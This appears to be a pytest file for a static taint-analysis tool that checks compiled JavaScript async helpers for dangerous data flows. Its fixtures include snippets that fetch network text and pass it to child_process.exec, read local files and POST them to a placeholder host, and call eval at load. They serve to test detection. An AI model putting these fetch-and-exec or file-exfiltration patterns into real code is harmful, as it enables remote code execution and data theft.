"""`async` functions as compilers write them."""

import pytest

from pratique.analysis.facts import Taint
from tests.analysis.languages.javascript.reading import N, P, at_load, flows

_START = "var __awaiter = (this && this.__awaiter) || function (t, a, P, generator) {};\n"
_STEPS = """
function go() {
  return __awaiter(this, void 0, void 0, function () {
    var a, b;
    return __generator(this, function (_a) {
      switch (_a.label) {
        case 0: return [4 /*yield*/, fetch('https://a.invalid')];
        case 1: a = _a.sent(); return [4 /*yield*/, a.text()];
        case 2: b = _a.sent(); require('child_process').exec(b); return [2 /*return*/];
      }
    });
  });
}
"""


def test_a_step_has_what_the_one_before_waited_for() -> None:
    assert (P, "child_process.exec", {Taint.NETWORK}) in flows(_START + _STEPS)


def test_a_call_gives_what_the_last_step_gives() -> None:
    read = (
        "function read() { return __awaiter(this, void 0, void 0, function () { return __generator(this, function (_a) {"
        " return [2 /*return*/, require('fs').readFileSync(p)]; }); }); }\n"
        "read().then(function (d) { fetch('https://a.invalid', {method: 'POST', body: d}) })"
    )
    assert (N, "fetch", {Taint.FILE}) in flows(_START + read)


def test_a_generator_gives_what_it_returns() -> None:
    read = "const read = () => __async(this, null, function* () { return yield require('fs').promises.readFile(p) });"
    assert (N, "fetch", {Taint.FILE}) in flows(
        read + "read().then(d => fetch('https://a.invalid', {body: d}))"
    )


@pytest.mark.parametrize(
    "source",
    [
        "__awaiter(this, void 0, void 0, function () { eval(x) })",
        "tslib_1.__awaiter(this, void 0, void 0, function* () { eval(x) })",
        "class A { constructor() { this.go() } go() { return __awaiter(this, void 0, void 0, function* () { this.on() }) } on() { eval(x) } } new A()",
    ],
)
def test_helpers_run_what_they_are_given(source: str) -> None:
    assert at_load(source)


def test_a_step_before_which_nothing_is_waited_for_has_nothing() -> None:
    assert [] == flows(_START + _STEPS.replace("[4 /*yield*/,", "[3 /*break*/,").replace("fetch(", "f("))
    assert [] == flows("function f(_a) { require('child_process').exec(_a.sent()) }")
